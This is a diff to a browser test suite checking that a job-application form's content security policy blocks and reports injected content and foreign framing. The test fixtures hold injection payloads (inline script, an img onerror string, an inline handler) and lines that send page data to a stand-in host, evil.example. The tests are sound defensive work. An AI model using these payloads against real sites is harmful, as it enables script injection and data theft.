@@ -1,14 +1,14 @@
-// The security policy in a real browser: what it stops, that the page knows of nothing it stops (every other journey is
-// watched for that, `setup/test.ts`), and that nobody else may frame it.
-import { openAt } from './driver/visits.ts'
-import { unique } from './personas/persona.ts'
+// The content security policy in a real browser: it blocks injected content and foreign frames, and the server receives
+// the reports. Every other browser test fails on a violation (`setup/test.ts`).
+import { openPageAt } from './driver/storedSession.ts'
+import { withUniqueEmail } from './personas/persona.ts'
 import { anna } from './personas/poland.ts'
 import { test } from './setup/embedding.ts'
 import { expect } from './setup/test.ts'
 
-/** What something foreign that got into the page would try; a title tells where it succeeds. */
-const intrusions: Readonly<Record<string, () => void>> = {
-  'a script of its own words': () => {
+/** Attempts of injected code. An attempt that succeeds sets the title of the document. */
+const injections: Readonly<Record<string, () => void>> = {
+  'an inline script': () => {
     const script = document.createElement('script')
     script.text = 'document.title = "taken"'
     document.head.append(script)
@@ -19,43 +19,43 @@ const intrusions: Readonly<Record<string, () => void>> = {
     document.head.append(script)
   },
   'markup from a string': () => {
-    const place = document.createElement('div')
-    Reflect.set(place, 'innerHTML', '<img src=x onerror="document.title = `taken`">')
-    document.body.append(place)
+    const container = document.createElement('div')
+    Reflect.set(container, 'innerHTML', '<img src=x onerror="document.title = `taken`">')
+    document.body.append(container)
   },
-  'a handler in markup': () => {
+  'an inline event handler': () => {
     const button = document.createElement('button')
     button.setAttribute('onclick', 'document.title = "taken"')
     document.body.append(button)
     button.click()
   },
-  'a base for every address': () => {
+  'a base element': () => {
     const base = document.createElement('base')
     base.href = 'https://evil.example/'
     document.head.prepend(base)
     if (document.baseURI.includes('evil')) document.title = 'taken'
   },
-  'a style of its own': () => {
+  'an inline style': () => {
     const style = document.createElement('style')
     style.textContent = 'body { display: none }'
     document.head.append(style)
     if (getComputedStyle(document.body).display === 'none') document.title = 'taken'
   },
-  'a picture that tells': () => {
+  'a picture that sends data': () => {
     new Image().src = `https://evil.example/?told=${document.title}`
   },
   'a call elsewhere': () =>
     void fetch('https://evil.example/', { method: 'POST', body: 'told' }).catch(() => undefined),
-  'a frame of somebody else': () => {
+  'a foreign frame': () => {
     const frame = document.createElement('iframe')
     frame.src = 'https://evil.example/'
     document.body.append(frame)
   },
 }
 
-for (const [name, intrude] of Object.entries(intrusions)) {
-  test(`${name} comes to nothing, and is told`, async ({ page, tukan, watched }) => {
-    await page.goto(tukan.url)
+for (const [name, inject] of Object.entries(injections)) {
+  test(`the policy blocks and reports ${name}`, async ({ page, polandServer, watched }) => {
+    await page.goto(polandServer.url)
     await page.locator('dialog:modal').waitFor()
     expect(watched.violations).toEqual([])
     const arrived: string[] = []
@@ -63,8 +63,8 @@ for (const [name, intrude] of Object.entries(intrusions)) {
       arrived.push(route.request().url())
       return route.abort()
     })
-    // Throws where Trusted Types stop it on the spot.
-    await page.evaluate(intrude).catch(() => undefined)
+    // Throws where Trusted Types block the call.
+    await page.evaluate(inject).catch(() => undefined)
     await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
     await expect(page).not.toHaveTitle('taken')
     expect(arrived).toEqual([])
@@ -73,10 +73,14 @@ for (const [name, intrude] of Object.entries(intrusions)) {
   })
 }
 
-test('what happens in a context that a test opens itself is told too', async ({ browser, tukan, watched }) => {
+test('violations and errors in a context that a test opens are recorded too', async ({
+  browser,
+  polandServer,
+  watched,
+}) => {
   const other = await browser.newContext()
   const page = await other.newPage()
-  await page.goto(tukan.url)
+  await page.goto(polandServer.url)
   await page.locator('dialog:modal').waitFor()
   await page.evaluate(() => {
     new Image().src = 'https://evil.example/x.png'
@@ -91,8 +95,8 @@ test('what happens in a context that a test opens itself is told too', async ({ 
   watched.errors.length = 0
 })
 
-test('violations are sent to the server', async ({ page, tukan, watched }) => {
-  await page.goto(tukan.url)
+test('the browser sends violations to the server', async ({ page, polandServer, watched }) => {
+  await page.goto(polandServer.url)
   const reported = await page.evaluate(async () => {
     const seen = new Promise<string>((resolve) => {
       document.addEventListener('securitypolicyviolation', (event) => resolve(event.originalPolicy), { once: true })
@@ -101,7 +105,7 @@ test('violations are sent to the server', async ({ page, tukan, watched }) => {
     return seen
   })
   expect(reported).toContain('report-uri /policy-reports')
-  const reply = await page.request.post(`${tukan.origin}/policy-reports`, {
+  const reply = await page.request.post(`${polandServer.origin}/policy-reports`, {
     headers: { 'content-type': 'application/csp-report' },
     data: { 'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://evil.example/x.png' } },
   })
@@ -109,28 +113,28 @@ test('violations are sent to the server', async ({ page, tukan, watched }) => {
   watched.violations.length = 0
 })
 
-test('pictures of the page itself and what an applicant opens break no rule', async ({ page, tukan }) => {
-  await openAt(page, tukan, unique(anna), 'employer-name')
-  await page.goto(`${tukan.url}terms`)
-  await page.goto(`${tukan.origin}/docs`)
-  await page.goto(`${tukan.origin}/sandbox`)
+test('the form, its documents and the server’s own pages violate no policy', async ({ page, polandServer }) => {
+  await openPageAt(page, polandServer, withUniqueEmail(anna), 'employer-name')
+  await page.goto(`${polandServer.url}terms`)
+  await page.goto(`${polandServer.origin}/docs`)
+  await page.goto(`${polandServer.origin}/sandbox`)
   await expect(page.locator('h1')).toHaveCSS('font-size', '28px')
 })
 
-test('a page of somebody else cannot frame the form: not where nobody may, not where others may', async ({
+test('a foreign page cannot frame the form, also where another host may', async ({
   page,
-  tukan,
-  embeddingOf,
+  polandServer,
+  getEmbedding,
   watched,
 }) => {
-  const { server, host, foreign } = await embeddingOf('tukan-pl')
+  const { server, host, foreign } = await getEmbedding('tukan-pl')
   await page.goto(`${foreign}/`)
   await expect.poll(() => watched.violations.join()).toContain('frame-ancestors')
   expect(page.frames().at(1)?.url()).not.toContain(server.url)
   await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
   watched.violations.length = 0
 
-  // The host is known to one product's server, not to the other's.
+  // The host may embed the form of one server, not of the other.
   await page.goto(`${host}/`)
   await page.frameLocator('iframe').locator('form[data-page]').waitFor()
   expect(watched.violations).toEqual([])
@@ -139,7 +143,7 @@ test('a page of somebody else cannot frame the form: not where nobody may, not w
       const frame = document.querySelector('iframe')
       if (frame !== null) frame.src = address
     },
-    server.url.replace(server.origin, tukan.origin),
+    server.url.replace(server.origin, polandServer.origin),
   )
   await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
   await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
